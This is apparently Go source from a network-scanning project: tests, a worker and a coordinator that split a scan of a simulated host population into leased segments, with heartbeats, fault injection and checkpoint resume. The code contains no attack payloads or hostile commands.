	want := monolithicJSON(t, fcfg, pol)
	got := runLockstep(t, 3, fcfg, pol, func(int) time.Duration { return time.Second })
	if string(got.report) != string(want) {
		t.Error("faulted fabric report differs from faulted monolithic")
	}
}

// TestRunMatchesMonolithic exercises the concurrent production path:
// fabric.Run with a real worker pool over the pipe transport, kills
// respawning mid-flight, against the monolithic baseline.
func TestRunMatchesMonolithic(t *testing.T) {
	if testing.Short() {
		t.Skip("runs four full scans")
	}
	fcfg := faults.Config{Seed: 7, WorkerCrashRate: 0.3}
	want := monolithicJSON(t, fcfg, resilience.Policy{})
	opts, n := testScanOptions(t)
	for _, workers := range []int{1, 3, 8} {
		rep, err := Run(context.Background(), Config{
			Coordinator: CoordinatorConfig{
				Population:     testPop(),
				Scan:           opts,
				Shards:         4,
				Checkpoint:     orchestrator.Checkpoint{Store: orchestrator.NewMemStore(), Every: n/8 + 1},
				Faults:         fcfg,
				HeartbeatEvery: 5 * time.Millisecond,
			},
			Workers: workers,
		})
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		if got := reportJSON(t, rep); string(got) != string(want) {
			t.Errorf("workers=%d: fabric report differs from monolithic", workers)
		}
	}
}

// TestCoordinatorResume replays a half-journaled run: a second
// coordinator over the same store starts with the journaled segments
// done and the remaining ones pending, and the final report matches an
// uninterrupted run.
func TestCoordinatorResume(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two full scans")
	}
	want := monolithicJSON(t, faults.Config{}, resilience.Policy{})
	opts, n := testScanOptions(t)
	store := orchestrator.NewMemStore()
	sim := simtime.NewSim(time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC))
	every := n/6 + 1

	// First incarnation: one worker completes exactly two segments, then
	// the coordinator is dropped.
	coord, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: opts, Shards: 2,
		Checkpoint: orchestrator.Checkpoint{Store: store, Every: every},
		Clock:      sim,
	})
	if err != nil {
		t.Fatal(err)
	}
	tr := NewPipeTransport(coord)
	w, err := NewWorker(WorkerConfig{ID: "w0", Transport: tr, Clock: sim})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	for steps, segs := 0, 0; segs < 2; steps++ {
		if steps > 100 {
			t.Fatal("worker made no progress")
		}
		act, err := w.Step(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if act == ActionScan {
			segs++
		}
	}
	if err := tr.Close(); err != nil {
		t.Fatal(err)
	}

	// Second incarnation resumes from the shared journal.
	coord2, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: opts, Shards: 2,
		Checkpoint: orchestrator.Checkpoint{Store: store, Every: every, Resume: true},
		Clock:      sim,
	})
	if err != nil {
		t.Fatal(err)
	}
	tr2 := NewPipeTransport(coord2)
	defer func() {
		if err := tr2.Close(); err != nil {
			t.Error(err)
		}
	}()
	w2, err := NewWorker(WorkerConfig{ID: "w1", Transport: tr2, Clock: sim})
	if err != nil {
		t.Fatal(err)
	}
	for steps := 0; !done(coord2); steps++ {
		if steps > 200 {
			t.Fatal("resumed run made no progress")
		}
		if _, err := w2.Step(ctx); err != nil {
			t.Fatal(err)
		}
	}
	rep, err := coord2.Report()
	if err != nil {
		t.Fatal(err)
	}
	if got := reportJSON(t, rep); string(got) != string(want) {
		t.Error("resumed fabric report differs from monolithic")
	}
}

// TestResumeRefusesChangedPlan mirrors the orchestrator's fingerprint
// check across the fabric: a journal from one configuration must not
// feed a coordinator planning a different one.
func TestResumeRefusesChangedPlan(t *testing.T) {
	opts, n := testScanOptions(t)
	store := orchestrator.NewMemStore()
	if _, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: opts, Shards: 2,
		Checkpoint: orchestrator.Checkpoint{Store: store, Every: n/6 + 1},
	}); err != nil {
		t.Fatal(err)
	}
	changed := opts
	changed.Seed = 1234
	if _, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: changed, Shards: 2,
		Checkpoint: orchestrator.Checkpoint{Store: store, Every: n/6 + 1, Resume: true},
	}); err == nil {
		t.Fatal("resume under a changed configuration should fail")
	}
}

// TestProgressAllWorkersLost drives the per-worker ops-plane view: a
// joined worker that stops beating flips its row to dead, and once every
// worker is lost the tracker's readiness Ping fails.
func TestProgressAllWorkersLost(t *testing.T) {
	opts, n := testScanOptions(t)
	sim := simtime.NewSim(time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC))
	tracker := orchestrator.NewProgressTracker()
	coord, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: opts, Shards: 2,
		Checkpoint:     orchestrator.Checkpoint{Store: orchestrator.NewMemStore(), Every: n/6 + 1},
		HeartbeatEvery: time.Second,
		MissedBeats:    2,
		Clock:          sim,
		Progress:       tracker,
	})
	if err != nil {
		t.Fatal(err)
	}
	tr := NewPipeTransport(coord)
	defer func() {
		if err := tr.Close(); err != nil {
			t.Error(err)
		}
	}()
	w, err := NewWorker(WorkerConfig{ID: "w0", Transport: tr, Clock: sim})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Step(context.Background()); err != nil { // join
		t.Fatal(err)
	}
	snap := tracker.Snapshot()
	if len(snap.Workers) != 1 || !snap.Workers[0].Live || snap.Workers[0].ID != "w0" {
		t.Fatalf("after join, want one live worker row, got %+v", snap.Workers)
	}
	if err := tracker.Ping(); err != nil {
		t.Fatalf("live fleet must pass readiness: %v", err)
	}
	sim.Advance(5 * time.Second) // past the 2-beat expiry budget
	coord.Tick()
	snap = tracker.Snapshot()
	if len(snap.Workers) != 1 || snap.Workers[0].Live {
		t.Fatalf("after expiry, want one dead worker row, got %+v", snap.Workers)
	}
	if err := tracker.Ping(); err == nil {
		t.Fatal("Ping must fail once every fabric worker is lost")
	}
}
