package fabric

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"sync"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/iprange"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// WorkerConfig parametrizes one fabric worker.
type WorkerConfig struct {
	// ID names the worker in leases, journal audits and /progress rows.
	// Required, unique per live worker.
	ID string
	// Transport reaches the coordinator. Required.
	Transport Transport
	// Clock drives elapsed accounting (default wall). Hermetic tests share
	// the coordinator's simulated clock.
	Clock simtime.Clock
	// Sleep paces the idle loop and background heartbeats (default wall).
	Sleep simtime.Sleeper
	// Store, when non-nil, is the worker's own journal: completed segments
	// are appended locally before the completion call, so a worker-side
	// audit survives even a coordinator loss. The shared source of truth
	// remains the coordinator's journal.
	Store orchestrator.Store
	// Telemetry, when non-nil, instruments the worker's pipelines.
	Telemetry *telemetry.Registry
}

// Action names what one Worker.Step did, for lockstep tests and logs.
type Action string

// The step outcomes.
const (
	ActionJoin     Action = "join"     // joined the coordinator
	ActionLease    Action = "lease"    // acquired a lease
	ActionScan     Action = "scan"     // scanned + completed the held lease
	ActionComplete Action = "complete" // delivered a previously stuck completion
	ActionIdle     Action = "idle"     // nothing to lease; heartbeat only
	ActionDone     Action = "done"     // plan complete
	ActionKilled   Action = "killed"   // kill schedule fired
)

// Worker is one fabric scan worker. It is a state machine advanced by
// Step — one protocol interaction per call, which is what lets the
// determinism tests serialize a whole fleet — with Run as the production
// loop around it.
type Worker struct {
	cfg   WorkerConfig
	clock simtime.Clock
	sleep simtime.Sleeper

	joined bool
	spec   JoinSpec
	index  int
	world  *population.World
	space  *iprange.Set
	kills  *faults.Plan
	grants int

	lease   *Lease
	stuck   *completeRequest // completed delta awaiting a reachable coordinator
	done    bool
	killed  bool
	segsRun int
}

// errPermanent marks worker failures that retrying cannot fix (join
// rejection, a spec that fails to materialize); Run stops on them
// instead of retrying them forever.
var errPermanent = errors.New("fabric: permanent worker error")

// NewWorker validates cfg and returns a worker ready to Step or Run.
func NewWorker(cfg WorkerConfig) (*Worker, error) {
	if cfg.ID == "" {
		return nil, errors.New("fabric: WorkerConfig.ID is required")
	}
	if cfg.Transport == nil {
		return nil, errors.New("fabric: WorkerConfig.Transport is required")
	}
	w := &Worker{cfg: cfg, clock: cfg.Clock, sleep: cfg.Sleep}
	if w.clock == nil {
		w.clock = simtime.Wall{}
	}
	if w.sleep == nil {
		w.sleep = simtime.Wall{}
	}
	return w, nil
}

// Spec returns the join spec after a successful join (zero before).
func (w *Worker) Spec() JoinSpec { return w.spec }

// Index returns the coordinator-assigned join ordinal.
func (w *Worker) Index() int { return w.index }

// Step advances the worker by exactly one protocol interaction: join,
// then lease/scan/complete/idle until the coordinator reports the plan
// done. A transport error leaves the worker's state unchanged (a scanned
// but undelivered segment is cached and retried), so callers just call
// Step again. ErrKilled is terminal.
func (w *Worker) Step(ctx context.Context) (Action, error) {
	if err := ctx.Err(); err != nil {
		return "", err
	}
	switch {
	case w.killed:
		return ActionKilled, ErrKilled
	case w.done:
		return ActionDone, nil
	case !w.joined:
		return w.stepJoin(ctx)
	case w.stuck != nil:
		return w.stepDeliver(ctx)
	case w.lease == nil:
		return w.stepLease(ctx)
	default:
		return w.stepScan(ctx)
	}
}

// stepJoin performs the join handshake and materializes the local world
// from the shipped recipe.
func (w *Worker) stepJoin(ctx context.Context) (Action, error) {
	var resp joinResponse
	if err := w.cfg.Transport.Call(ctx, endpointJoin, joinRequest{Worker: w.cfg.ID}, &resp); err != nil {
		return ActionJoin, err
	}
	if !resp.Accepted {
		return ActionJoin, fmt.Errorf("%w: join rejected: %s", errPermanent, resp.Reason)
	}
	world, err := population.Generate(resp.Spec.Population)
	if err != nil {
		return ActionJoin, fmt.Errorf("%w: generating world: %v", errPermanent, err)
	}
	world.Instrument(w.cfg.Telemetry)
	if resp.Spec.Faults.Enabled() {
		plan := faults.NewPlan(resp.Spec.Faults, nil)
		plan.Instrument(w.cfg.Telemetry)
		world.Net.SetFaults(plan)
	}
	targets, err := iprange.FromPrefixes(resp.Spec.Scan.Targets)
	if err != nil {
		return ActionJoin, fmt.Errorf("%w: spec targets: %v", errPermanent, err)
	}
	exclude, err := iprange.FromPrefixes(resp.Spec.Scan.Exclude)
	if err != nil {
		return ActionJoin, fmt.Errorf("%w: spec exclude: %v", errPermanent, err)
	}
	w.spec = resp.Spec
	w.index = resp.Index
	w.world = world
	w.space = targets.Subtract(exclude)
	w.kills = faults.NewPlan(resp.Spec.Faults, nil)
	w.joined = true
	w.cfg.Telemetry.Event("fabric.worker.join", "worker", w.cfg.ID)
	return ActionJoin, nil
}

// stepLease asks for work. Acquiring a lease is where the kill schedule
// draws: faults.Plan.WorkerKill keys on (join index, per-worker grant
// ordinal), so the same seed kills the same worker at the same point in
// its lease history on every run — and because the draw happens before
// the pipeline starts, a killed worker leaves its segment's per-endpoint
// fault counters untouched, exactly like the orchestrator's pre-run
// crash draw.
func (w *Worker) stepLease(ctx context.Context) (Action, error) {
	var resp leaseResponse
	if err := w.cfg.Transport.Call(ctx, endpointLease, leaseRequest{Worker: w.cfg.ID}, &resp); err != nil {
		return ActionLease, err
	}
	if resp.Done {
		w.done = true
		return ActionDone, nil
	}
	if !resp.Granted {
		return ActionIdle, nil
	}
	lease := resp.Lease
	w.grants = lease.Grant
	if w.kills.WorkerKill(w.index, lease.Grant) {
		w.killed = true
		w.cfg.Telemetry.Event("fabric.worker.killed",
			"worker", w.cfg.ID, "lease", fmt.Sprint(lease.ID))
		return ActionKilled, ErrKilled
	}
	w.lease = &lease
	return ActionLease, nil
}

// stepScan runs the held lease's segment through a pipeline and delivers
// the delta. The pipeline setup mirrors orchestrator.runSegment field
// for field — space slice, segment seed, shard plan — which is what
// keeps a leased segment's delta byte-identical to the in-process run's.
func (w *Worker) stepScan(ctx context.Context) (Action, error) {
	seg := w.lease.Segment
	opts := w.spec.Scan
	opts.Space = w.space.Slice(seg.Lo, seg.Hi)
	opts.Targets, opts.Exclude = nil, nil
	opts.Seed = seg.Seed

	pipe := scanner.New(w.world.Net,
		scanner.WithResilience(w.spec.Resilience),
		scanner.WithTelemetry(w.cfg.Telemetry),
		scanner.WithShardPlan(scanner.ShardPlan{Shard: seg.Shard, Shards: w.spec.Shards}),
		scanner.WithHTTPTimeout(w.spec.HTTPTimeout))
	part, err := pipe.Run(ctx, opts)
	if err != nil {
		return ActionScan, err
	}
	// A cancellation mid-segment doesn't abort the pipeline with an error;
	// only a segment finished under a live context is complete.
	if err := ctx.Err(); err != nil {
		return ActionScan, err
	}
	delta, err := json.Marshal(part)
	if err != nil {
		return ActionScan, err
	}
	if w.cfg.Store != nil {
		if err := w.cfg.Store.Append(orchestrator.Record{
			RunID: w.spec.RunID, Kind: orchestrator.KindSegment,
			Shard: seg.Shard, Segment: seg.Ordinal,
			Watermark: seg.Hi, Payload: delta,
		}); err != nil {
			return ActionScan, fmt.Errorf("fabric: local journal: %w", err)
		}
	}
	w.segsRun++
	// The lease is spent whether or not the delivery below succeeds: the
	// segment must never be re-scanned by this worker (fresh endpoint
	// fault draws would diverge), only its completed delta re-sent.
	req := &completeRequest{
		Worker: w.cfg.ID, LeaseID: w.lease.ID, Ordinal: seg.Ordinal, Delta: delta,
	}
	w.lease = nil
	w.stuck = req
	if err := w.deliver(ctx); err != nil {
		return ActionScan, err
	}
	return ActionScan, nil
}

// stepDeliver retries a completion whose transport call failed earlier
// (the partitioned-worker path).
func (w *Worker) stepDeliver(ctx context.Context) (Action, error) {
	if err := w.deliver(ctx); err != nil {
		return ActionComplete, err
	}
	return ActionComplete, nil
}

// deliver sends the cached completion; on success it clears the cache.
func (w *Worker) deliver(ctx context.Context) error {
	var resp completeResponse
	if err := w.cfg.Transport.Call(ctx, endpointComplete, *w.stuck, &resp); err != nil {
		return err
	}
	if !resp.Accepted {
		return fmt.Errorf("fabric: completion of segment %d rejected", w.stuck.Ordinal)
	}
	if resp.Duplicate {
		w.cfg.Telemetry.Event("fabric.worker.duplicate",
			"worker", w.cfg.ID, "ordinal", fmt.Sprint(w.stuck.Ordinal))
	}
	w.stuck = nil
	return nil
}

// Beat sends one pure heartbeat. It is safe to call concurrently with
// Step: it touches no worker state beyond the ID.
func (w *Worker) Beat(ctx context.Context) error {
	var resp beatResponse
	return w.cfg.Transport.Call(ctx, endpointBeat, beatRequest{Worker: w.cfg.ID}, &resp)
}

// Run drives the worker to completion: join, then lease/scan until the
// coordinator reports the plan done. A background heartbeat keeps the
// lease alive through segments longer than the expiry budget. Transport
// errors are retried after one heartbeat interval (the coordinator may
// be restarting); ErrKilled and context cancellation are terminal.
func (w *Worker) Run(ctx context.Context) error {
	for !w.joined {
		if _, err := w.Step(ctx); err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			if errors.Is(err, errPermanent) {
				return err
			}
			if err := w.pause(ctx); err != nil {
				return err
			}
		}
	}
	beatCtx, stopBeats := context.WithCancel(ctx)
	var wg sync.WaitGroup
	wg.Add(1)
	go w.beatLoop(beatCtx, &wg)
	// One defer for both: cancel strictly before waiting, or the wait
	// would stall on a loop whose stop signal never fires.
	defer func() {
		stopBeats()
		wg.Wait()
	}()

	for {
		act, err := w.Step(ctx)
		switch {
		case errors.Is(err, ErrKilled):
			return ErrKilled
		case ctx.Err() != nil:
			return ctx.Err()
		case err != nil:
			// Transport hiccup: state is preserved (an undelivered delta is
			// cached), so wait one beat and retry.
			if err := w.pause(ctx); err != nil {
				return err
			}
		case act == ActionDone:
			return nil
		case act == ActionIdle:
			if err := w.pause(ctx); err != nil {
				return err
			}
		}
	}
}

// pause sleeps one heartbeat interval (default 500ms before join).
func (w *Worker) pause(ctx context.Context) error {
	every := w.spec.HeartbeatEvery
	if every <= 0 {
		every = 500 * time.Millisecond
	}
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-w.sleep.After(every):
		return nil
	}
}

// beatLoop heartbeats until its context is canceled. Beat errors are
// ignored: the next Step surfaces a broken transport.
func (w *Worker) beatLoop(ctx context.Context, wg *sync.WaitGroup) {
	defer wg.Done()
	for {
		select {
		case <-ctx.Done():
			return
		case <-w.sleep.After(w.spec.HeartbeatEvery):
			if err := w.Beat(ctx); err != nil && ctx.Err() != nil {
				return
			}
		}
	}
}
