package fabric

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"sync"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/iprange"
	"mavscan/internal/mav"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// CoordinatorConfig parametrizes a fabric coordinator. It mirrors the
// in-process orchestrator.Config, minus the things only a worker owns
// (the network handle, parallelism) and plus the heartbeat contract.
type CoordinatorConfig struct {
	// Population is the world recipe shipped to workers. The coordinator
	// itself never scans; it generates the world once only to derive the
	// target prefixes when Scan.Targets is empty.
	Population population.Config
	// Scan carries the pipeline options. Space must be unset (the plan
	// owns the partition).
	Scan scanner.Options
	// Shards is the flat-index shard count of the plan (default 1).
	Shards int
	// Checkpoint configures the shared journal: every completion is
	// appended to Store (duplicates included — replay is keep-first), and
	// Resume preloads completed segments before any worker joins.
	Checkpoint orchestrator.Checkpoint
	// Faults is shipped to workers: its endpoint rates seed each worker's
	// fault plan, and WorkerCrashRate drives whole-worker kill draws.
	Faults faults.Config
	// Resilience is the workers' HTTP-stage retry policy.
	Resilience resilience.Policy
	// HTTPTimeout overrides the workers' per-request timeout.
	HTTPTimeout time.Duration
	// HeartbeatEvery is the beat cadence workers are told to keep
	// (default 500ms); MissedBeats is K, the missed-beat budget before a
	// worker's leases expire (default 3).
	HeartbeatEvery time.Duration
	MissedBeats    int
	// Clock drives lease expiry and elapsed accounting (default wall).
	Clock simtime.Clock
	// Telemetry, when non-nil, instruments the lease book (grants,
	// expiries, reassignments, heartbeat lag, per-worker watermarks).
	Telemetry *telemetry.Registry
	// Progress, when non-nil, receives the per-worker fabric view for the
	// operations plane's /progress endpoint.
	Progress *orchestrator.ProgressTracker
}

// Coordinator owns the segment plan and the lease book of one fabric
// scan. All state transitions happen under one mutex on request arrival —
// expiry is swept lazily on every incoming call (and on Tick), so the
// coordinator needs no background goroutine and runs unchanged on a
// simulated clock.
type Coordinator struct {
	cfg         CoordinatorConfig
	clock       simtime.Clock
	start       time.Time
	segs        []orchestrator.Segment
	fingerprint []byte
	excluded    uint64
	runID       string
	spec        JoinSpec

	mu         sync.Mutex
	pending    []int // ordinals awaiting (re)grant, ascending
	leases     map[int]*Lease
	parts      map[int]*scanner.Report
	workers    map[string]*workerInfo
	granted    map[int]bool // ordinals ever granted (reassignment detection)
	reassigned []int        // reassignment order, for audits and tests
	joins      int
	grants     int
	done       chan struct{}

	tel *coordTelemetry
}

type workerInfo struct {
	index    int
	lastBeat time.Time
	lost     bool
	grants   int
}

type coordTelemetry struct {
	granted    *telemetry.Counter
	expired    *telemetry.Counter
	reassigned *telemetry.Counter
	beatLag    *telemetry.Histogram
	reg        *telemetry.Registry
	watermarks map[string]*telemetry.Gauge
}

// NewCoordinator plans the scan (segments, fingerprint, resume) and
// returns a coordinator ready to serve a Transport. No goroutines start;
// serving is the caller's choice of transport.
func NewCoordinator(cfg CoordinatorConfig) (*Coordinator, error) {
	if err := cfg.Faults.Validate(); err != nil {
		return nil, err
	}
	clock := cfg.Clock
	if clock == nil {
		clock = simtime.Wall{}
	}
	if cfg.HeartbeatEvery <= 0 {
		cfg.HeartbeatEvery = 500 * time.Millisecond
	}
	if cfg.MissedBeats <= 0 {
		cfg.MissedBeats = 3
	}
	if cfg.Shards <= 0 {
		cfg.Shards = 1
	}
	opts := cfg.Scan
	if opts.Space != nil {
		return nil, errors.New("fabric: Scan.Space is owned by the plan; set Targets/Exclude")
	}
	if len(opts.Ports) == 0 {
		opts.Ports = mav.ScanPorts()
	}
	if len(opts.Targets) == 0 {
		// The world recipe implies the address plan; generate it once to
		// read the prefixes (cheap for lazy worlds — hosts materialize only
		// on probe, and the coordinator never probes).
		world, err := population.Generate(cfg.Population)
		if err != nil {
			return nil, fmt.Errorf("fabric: deriving targets: %w", err)
		}
		opts.Targets = world.Geo.Prefixes()
	}
	targets, err := iprange.FromPrefixes(opts.Targets)
	if err != nil {
		return nil, fmt.Errorf("fabric: targets: %w", err)
	}
	exclude, err := iprange.FromPrefixes(opts.Exclude)
	if err != nil {
		return nil, fmt.Errorf("fabric: exclude: %w", err)
	}
	space := targets.Subtract(exclude)
	cfg.Scan = opts

	c := &Coordinator{
		cfg:         cfg,
		clock:       clock,
		start:       clock.Now(),
		segs:        orchestrator.PlanSegments(space.NumAddresses(), opts.Seed, cfg.Shards, cfg.Checkpoint.Every),
		fingerprint: orchestrator.PlanFingerprint(space, opts, cfg.Shards, cfg.Checkpoint.Every),
		excluded:    (targets.NumAddresses() - space.NumAddresses()) * uint64(len(opts.Ports)),
		leases:      map[int]*Lease{},
		parts:       map[int]*scanner.Report{},
		workers:     map[string]*workerInfo{},
		granted:     map[int]bool{},
		done:        make(chan struct{}),
	}
	c.runID = cfg.Checkpoint.RunID
	if c.runID == "" {
		c.runID = "scan"
	}
	c.spec = JoinSpec{
		RunID:          c.runID,
		Fingerprint:    string(c.fingerprint),
		Population:     cfg.Population,
		Scan:           opts,
		Shards:         cfg.Shards,
		Faults:         cfg.Faults,
		Resilience:     cfg.Resilience,
		HTTPTimeout:    cfg.HTTPTimeout,
		HeartbeatEvery: cfg.HeartbeatEvery,
		MissedBeats:    cfg.MissedBeats,
	}

	if reg := cfg.Telemetry; reg.Enabled() {
		c.tel = &coordTelemetry{
			granted:    reg.Counter("mavscan_fabric_leases_granted_total"),
			expired:    reg.Counter("mavscan_fabric_leases_expired_total"),
			reassigned: reg.Counter("mavscan_fabric_leases_reassigned_total"),
			beatLag:    reg.Histogram("mavscan_fabric_heartbeat_lag_seconds", nil),
			reg:        reg,
			watermarks: map[string]*telemetry.Gauge{},
		}
	}

	shardTotals := make([]uint64, cfg.Shards)
	for i := 0; i < cfg.Shards; i++ {
		lo := uint64(i) * space.NumAddresses() / uint64(cfg.Shards)
		hi := uint64(i+1) * space.NumAddresses() / uint64(cfg.Shards)
		shardTotals[i] = hi - lo
	}
	cfg.Progress.BeginFabric(clock, shardTotals, len(c.segs), cfg.Checkpoint.Store != nil)

	if err := c.resume(); err != nil {
		return nil, err
	}
	for _, seg := range c.segs {
		if _, ok := c.parts[seg.Ordinal]; !ok {
			c.pending = append(c.pending, seg.Ordinal)
		}
	}
	if len(c.parts) == len(c.segs) {
		cfg.Progress.FinishFabric()
		close(c.done)
	}
	cfg.Telemetry.Event("fabric.plan",
		"shards", strconv.Itoa(cfg.Shards),
		"segments", strconv.Itoa(len(c.segs)),
		"resumed", strconv.Itoa(len(c.parts)))
	return c, nil
}

// resume replays the shared journal (when Checkpoint.Resume is set),
// preloading completed segments keep-first, and ensures the stream opens
// with a plan record — the same contract the in-process orchestrator
// keeps, because it is the same journal.
func (c *Coordinator) resume() error {
	ck := c.cfg.Checkpoint
	if ck.Store == nil {
		if ck.Resume {
			return errors.New("fabric: Resume requires a checkpoint store")
		}
		return nil
	}
	havePlan := false
	if ck.Resume {
		err := ck.Store.Replay(c.runID, func(rec orchestrator.Record) error {
			switch rec.Kind {
			case orchestrator.KindPlan:
				if !bytes.Equal(rec.Payload, c.fingerprint) {
					return fmt.Errorf("fabric: journal %q belongs to a different scan configuration", c.runID)
				}
				havePlan = true
			case orchestrator.KindSegment:
				if rec.Segment < 0 || rec.Segment >= len(c.segs) {
					return fmt.Errorf("fabric: journal %q references unknown segment %d", c.runID, rec.Segment)
				}
				if _, dup := c.parts[rec.Segment]; dup {
					return nil // keep first
				}
				part := &scanner.Report{}
				if err := json.Unmarshal(rec.Payload, part); err != nil {
					return fmt.Errorf("fabric: journal %q segment %d: %w", c.runID, rec.Segment, err)
				}
				c.parts[rec.Segment] = part
				seg := c.segs[rec.Segment]
				c.cfg.Progress.FabricResumed(seg.Shard, seg.Hi-seg.Lo)
			}
			return nil
		})
		if err != nil {
			return err
		}
	}
	if !havePlan {
		if err := ck.Store.Append(orchestrator.Record{
			RunID: c.runID, Kind: orchestrator.KindPlan, Payload: c.fingerprint,
		}); err != nil {
			return err
		}
	}
	return nil
}

// Done returns a channel closed once every segment has completed.
func (c *Coordinator) Done() <-chan struct{} { return c.done }

// Wait blocks until the plan completes or ctx expires.
func (c *Coordinator) Wait(ctx context.Context) error {
	select {
	case <-c.done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Report merges the completed segments into the final report. It must be
// called after Done; calling early returns an error rather than a
// partial merge.
func (c *Coordinator) Report() (*scanner.Report, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.parts) != len(c.segs) {
		return nil, fmt.Errorf("fabric: plan incomplete: %d/%d segments", len(c.parts), len(c.segs))
	}
	report := orchestrator.MergeParts(c.parts, len(c.segs))
	report.Stats.Excluded = c.excluded
	report.Stats.Elapsed = c.clock.Now().Sub(c.start)
	return report, nil
}

// Reassignments returns the ordinals re-granted after a lease expiry, in
// grant order — the audit trail the determinism tests assert on.
func (c *Coordinator) Reassignments() []int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]int(nil), c.reassigned...)
}

// Tick runs one lease-expiry sweep without any worker traffic. The sweep
// also runs on every incoming request; Tick exists for supervisors that
// want expiry to make progress while all workers are silent.
func (c *Coordinator) Tick() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.sweep()
}

// sweep (mu held) expires every worker whose last beat is older than
// K×HeartbeatEvery and returns its leases to the pending queue. Workers
// are visited in sorted-ID order and reclaimed ordinals are re-inserted
// in ascending order, so the reassignment sequence is deterministic.
func (c *Coordinator) sweep() {
	ttl := time.Duration(c.cfg.MissedBeats) * c.cfg.HeartbeatEvery
	now := c.clock.Now()
	ids := make([]string, 0, len(c.workers))
	for id := range c.workers {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, id := range ids {
		w := c.workers[id]
		if w.lost || now.Sub(w.lastBeat) <= ttl {
			continue
		}
		w.lost = true
		c.cfg.Progress.WorkerLost(id)
		var orphans []int
		for ord, l := range c.leases {
			if l.Worker == id {
				orphans = append(orphans, ord)
			}
		}
		sort.Ints(orphans)
		for _, ord := range orphans {
			delete(c.leases, ord)
			c.insertPending(ord)
			if c.tel != nil {
				c.tel.expired.Inc()
			}
			c.cfg.Telemetry.Event("fabric.lease.expired",
				"worker", id, "ordinal", strconv.Itoa(ord))
		}
	}
}

// insertPending (mu held) re-queues ordinal keeping pending ascending.
func (c *Coordinator) insertPending(ord int) {
	i := sort.SearchInts(c.pending, ord)
	c.pending = append(c.pending, 0)
	copy(c.pending[i+1:], c.pending[i:])
	c.pending[i] = ord
}

// beat (mu held) refreshes the worker's liveness and observes its lag.
// A request from a lost worker is proof of life: the worker rejoins the
// fleet (its expired leases stay reassigned — it will be handed new
// ones), so a healed partition needs no explicit re-join handshake.
func (c *Coordinator) beat(id string) {
	w := c.workers[id]
	if w == nil {
		return
	}
	now := c.clock.Now()
	if w.lost {
		w.lost = false
		c.cfg.Progress.WorkerJoined(id)
		c.cfg.Telemetry.Event("fabric.worker.revived", "worker", id)
	} else if c.tel != nil {
		c.tel.beatLag.Observe(now.Sub(w.lastBeat).Seconds())
	}
	w.lastBeat = now
	c.cfg.Progress.WorkerBeat(id)
}

// isDone (mu held) reports plan completion.
func (c *Coordinator) isDone() bool { return len(c.parts) == len(c.segs) }

// serveJoin registers (or revives) a worker and hands it the scan spec.
func (c *Coordinator) serveJoin(req joinRequest) (joinResponse, error) {
	if req.Worker == "" {
		return joinResponse{Reason: "empty worker ID"}, nil
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.sweep()
	w := c.workers[req.Worker]
	if w == nil {
		w = &workerInfo{index: c.joins}
		c.joins++
		c.workers[req.Worker] = w
	}
	w.lost = false
	w.lastBeat = c.clock.Now()
	c.cfg.Progress.WorkerJoined(req.Worker)
	c.cfg.Telemetry.Event("fabric.worker.joined",
		"worker", req.Worker, "index", strconv.Itoa(w.index))
	return joinResponse{Accepted: true, Index: w.index, Spec: c.spec}, nil
}

// serveLease grants the lowest pending ordinal to the caller, or reports
// the plan done / fully leased.
func (c *Coordinator) serveLease(req leaseRequest) (leaseResponse, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.sweep()
	w := c.workers[req.Worker]
	if w == nil {
		return leaseResponse{}, fmt.Errorf("fabric: unknown worker %q (join first)", req.Worker)
	}
	c.beat(req.Worker)
	if c.isDone() {
		return leaseResponse{Done: true}, nil
	}
	// A pending entry can be stale: a lease that expired mid-scan is
	// re-queued, yet its original holder may still deliver. Granting such
	// an ordinal again would burn a whole segment scan on a duplicate —
	// and under tight heartbeat budgets the re-scan can expire too,
	// re-queueing the same head forever. Skip anything already merged.
	var ord int
	for {
		if len(c.pending) == 0 {
			return leaseResponse{}, nil
		}
		ord = c.pending[0]
		c.pending = c.pending[1:]
		if _, completed := c.parts[ord]; !completed {
			break
		}
	}
	c.grants++
	w.grants++
	lease := &Lease{ID: c.grants, Worker: req.Worker, Grant: w.grants, Segment: c.segs[ord]}
	c.leases[ord] = lease
	if c.tel != nil {
		c.tel.granted.Inc()
	}
	if c.granted[ord] {
		c.reassigned = append(c.reassigned, ord)
		if c.tel != nil {
			c.tel.reassigned.Inc()
		}
		c.cfg.Telemetry.Event("fabric.lease.reassigned",
			"worker", req.Worker, "ordinal", strconv.Itoa(ord))
	}
	c.granted[ord] = true
	return leaseResponse{Granted: true, Lease: *lease}, nil
}

// serveBeat is the pure-heartbeat endpoint, for workers deep in a long
// segment with nothing else to say.
func (c *Coordinator) serveBeat(req beatRequest) (beatResponse, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.sweep()
